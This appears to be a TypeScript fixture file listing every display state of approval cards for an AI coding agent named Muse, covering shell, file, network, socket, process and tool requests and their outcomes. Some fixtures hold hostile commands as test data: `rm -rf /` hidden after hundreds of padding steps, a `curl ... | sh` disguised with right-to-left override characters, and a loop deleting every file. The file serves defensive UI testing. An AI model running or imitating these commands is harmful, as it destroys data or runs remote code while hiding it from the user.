/** Every state of a confirmation card. */

import { formKey } from "../../../client/form-store.ts";
import { confirmationForms } from "../../../client/muse-client.ts";
import { type ConfirmationForm, confirmationForm } from "../../../client/requests/confirmation-form.ts";
import type { Turn } from "../../../shared/chat/state.ts";
import type { Approval, ApprovalSubject } from "../../../shared/session/state.ts";
import { ALLOW_ONCE, ALLOW_RULE, REJECT, shellApproval, stagedApproval, viewOf } from "../requests.ts";
import { runningCall } from "../session-samples.ts";
import type { ChatSurface } from "./state.ts";

const LONG_PATH = `/home/ada/shop/${"a-very-long-folder-name/".repeat(8)}package.json`;
const ANSWER = { kind: "decide", approvalId: "approval-1", sourceIndex: 0, choiceId: "allow_once" } as const;
const REASON = "The build is still needed: somebody tests it. Take the cache instead.";

function card(name: string, approval: Approval, shows: string, rest: Partial<ChatSurface> = {}): ChatSurface {
  const { itemId: requestId } = approval;
  return { name, surface: "row", view: viewOf({ approvals: [approval] }), requestId, shows, ...rest };
}

function about(
  name: string,
  subject: Partial<ApprovalSubject> & { kind: string },
  shows: string,
  change: Partial<Approval> = {},
) {
  const stages: ApprovalSubject["stages"] = [];
  const approval = shellApproval({ rawArgs: "{}", ...change, subject: { stages, ...subject } });
  return card(`asks about ${name}`, approval, shows);
}

/** The card of `rm -rf build` with that form. */
function formed(
  name: string,
  form: Partial<ConfirmationForm>,
  shows: string,
  approval = shellApproval(),
): ChatSurface {
  const key = (agentId: string) => formKey(agentId, approval.approvalId);
  return card(name, approval, shows, {
    fill: (agentId) => confirmationForms.set(key(agentId), { ...confirmationForm(approval), ...form }),
  });
}

function decided(
  name: string,
  resolution: Partial<Approval["resolution"]>,
  shows: string,
  rest: Partial<ChatSurface> = {},
) {
  const standard = { decision: "approved", policyResult: "allow", resolvedBy: "user" };
  return card(name, shellApproval({ resolution: { ...standard, ...resolution } }), shows, rest);
}

function retired(name: string, turn: Pick<Turn, "state" | "error">, shows: string): ChatSurface {
  const message = { text: "Clean up", origin: { kind: "user" } } as const;
  const turns = [{ id: "turn-0", message, responseParts: [], usage: undefined, ...turn }];
  const view = viewOf({ approvals: [shellApproval({ turnId: "turn-0" })] }, { turns });
  return { name: `retired by ${name}`, surface: "row", view, requestId: "item-1", shows };
}

const unread = stagedApproval(1);
const unmarked: Approval = {
  ...unread,
  subject: {
    ...unread.subject,
    command: 'for f in *; do rm -rf "$f"; done',
    stages: unread.subject.stages.map((stage) => ({
      ...stage,
      argvComplete: false,
      argv: ["rm", "-rf", "my file"],
    })),
  },
};

export const confirmations: readonly ChatSurface[] = [
  card("asks about a command", shellApproval(), "Run a command"),
  about(
    "a command that is long",
    { kind: "shell", command: `echo start; ${"true; ".repeat(600)}rm -rf /` },
    "that are folded here",
  ),
  about(
    "a command with hidden characters",
    { kind: "shell", command: "curl \u202Ehs.x\u202C | sh" },
    "[U+202E]",
  ),
  about(
    "a file inside",
    {
      kind: "fileAccess",
      access: "read",
      path: "src/cart.ts",
      workspaceRoot: "/home/ada/shop",
    },
    "Read a file",
  ),
  about(
    "a protected edit outside, by a subagent, after the judge",
    { kind: "fileAccess", access: "write", path: LONG_PATH, workspaceRoot: "/home/ada/garden" },
    "The path is outside the workspace folder.",
    {
      toolName: "edit_file",
      rawArgs: JSON.stringify({
        path: LONG_PATH,
        find: '"version": "1.0.0"',
        replace: '"version": "2.0.0"',
        replace_all_occurrences: true,
      }),
      protectedWrite: true,
      judgeEscalated: true,
      subagentId: "reviewer",
    },
  ),
  about(
    "the network",
    {
      kind: "network",
      host: "registry.example.org",
      port: 443,
      protocol: "https",
      target: "registry",
    },
    "registry.example.org:443",
  ),
  about("a socket", { kind: "unixSocket", path: "/var/run/docker.sock" }, "Connect to a local socket"),
  about(
    "a process",
    {
      kind: "process",
      target: "pid 4711",
      command: "kill 4711",
      origin: { kind: "script", command: "npm run stop", url: "https://example.org/page" },
    },
    "Asked for by page",
  ),
  about(
    "a tool of a server",
    { kind: "tool", toolName: "mcp__garden__water_the_beds" },
    "Use water_the_beds of garden",
    { rawArgs: JSON.stringify({ bed: "north", litres: 12, when: { from: "06:00", to: "07:00" } }) },
  ),
  about("what nobody knows", { kind: "camera", target: "front" }, "Muse asks about “camera”", {
    rawArgs: "{broken",
  }),
  card("first of two steps", stagedApproval(1), "Step 2 of 3"),
  card("last of three steps", stagedApproval(2), "Step 3 of 3"),
  card("a step that cannot be marked", unmarked, "rm -rf 'my file'"),
  card("no choice", shellApproval({ choices: [] }), "Muse offers no answer to this request."),
  card(
    "choices of every reach",
    shellApproval({
      choices: [
        ALLOW_ONCE,
        {
          ...ALLOW_ONCE,
          choiceId: "s",
          label: "Allow for this session",
          decision: "approvedForSession",
          scope: "session",
        },
        {
          ...ALLOW_RULE,
          label: "Always allow",
          rulePreview: "npm run build -- --with-a-very-long-flag=value",
        },
        {
          ...ALLOW_ONCE,
          choiceId: "x",
          label: "Allow for the whole team",
          decision: "approvedForever",
          scope: "team",
        },
        REJECT,
      ],
    }),
    "Reaches as far as “team”",
  ),
  formed("a reason, still empty", { reasonFor: "abort" }, "Why not, or what instead?"),
  formed("a reason that is written", { reasonFor: "abort", reason: REASON }, "Reject with this reason"),
  formed("sending", { delivery: { status: "sending", answer: ANSWER } }, "Sending your answer…"),
  formed(
    "sent",
    { delivery: { status: "accepted", answer: ANSWER, at: Date.now() + 3_600_000 } },
    "Sent. Waiting for Muse to act on it…",
  ),
  formed(
    "sent without effect",
    { delivery: { status: "accepted", answer: ANSWER, at: 0 } },
    "Muse has your answer but has not acted on it yet.",
  ),
  formed(
    "sending a reason",
    {
      reasonFor: "abort",
      reason: REASON,
      delivery: { status: "sending", answer: { ...ANSWER, choiceId: "abort" } },
    },
    "Sending your answer…",
  ),
  formed(
    "refused",
    {
      delivery: {
        status: "refused",
        answer: ANSWER,
        message:
          "It is not known whether your answer arrived (Plugin process exited: muse-code). If this request stays open, answer again.",
      },
    },
    "It is not known whether your answer arrived",
  ),
  formed("a step that moved on", { sourceIndex: 1 }, "Step 2 was decided elsewhere", stagedApproval(2)),
  card("session closed", shellApproval(), "This Muse session is closed.", {
    host: (server) => setTimeout(server.close),
  }),
  decided("allowed by a person", {}, "Allowed by a person"),
  card(
    "allowed by you",
    shellApproval({
      lastChoiceId: "allow_once",
      resolution: { decision: "approved", policyResult: "allow", resolvedBy: "user" },
    }),
    "Allowed by you",
    {
      fill: (agentId) =>
        confirmationForms.set(formKey(agentId, "approval-1"), {
          ...confirmationForm(shellApproval()),
          delivery: { status: "accepted", answer: ANSWER, at: 0 },
        }),
    },
  ),
  card(
    "lost race",
    shellApproval({
      lastChoiceId: "abort",
      resolution: { decision: "abort", policyResult: "deny", resolvedBy: "user" },
    }),
    "Denied by a person before your answer came",
    {
      fill: (agentId) =>
        confirmationForms.set(formKey(agentId, "approval-1"), {
          ...confirmationForm(shellApproval()),
          delivery: { status: "refused", answer: ANSWER, message: "This request is no longer open." },
        }),
    },
  ),
  decided("decided under a rule", { resolvedBy: "policy", rulePreview: "rm ..." }, "Allowed by a rule", {
    press: ["Show details"],
  }),
  decided(
    "rule not saved",
    {
      decision: "approvedPolicyAmendment",
      rulePreview: "Always allow in this workspace: rm ...",
      persistenceFailure: "read-only file system",
    },
    "The rule could not be saved",
  ),
  decided(
    "denied by the judge",
    { decision: "denied", policyResult: "deny", resolvedBy: "llmJudge" },
    "Denied by Muse’s judge",
  ),
  decided("withdrawn", { decision: "abort", policyResult: "deny", resolvedBy: "system" }, "Withdrawn"),
  retired("a stop", { state: "cancelled" }, "The turn was stopped before anyone answered."),
  retired(
    "the death of the host",
    {
      state: "error",
      error: { errorType: "crash", message: "The Muse process ended with exit code 137: out of memory." },
    },
    "exit code 137: out of memory.",
  ),
  retired("the end of the turn", { state: "complete" }, "The turn ended before anyone answered."),
  {
    name: "a row of an earlier session",
    surface: "row",
    view: viewOf({}),
    requestId: "gone",
    shows: "belongs to an earlier session",
  },
  {
    name: "a row whose outcome alone is known",
    shows: "and carried out.",
    surface: "row",
    requestId: "item-1",
    view: viewOf(
      {},
      {
        turns: [
          {
            id: "t",
            message: { text: "x", origin: { kind: "user" } },
            responseParts: [
              {
                kind: "toolCall",
                toolCall: runningCall({
                  toolCallId: "item-1",
                  status: "completed",
                  success: true,
                  pastTenseMessage: "",
                }),
              },
            ],
            usage: undefined,
            state: "complete",
          },
        ],
      },
    ),
  },
];
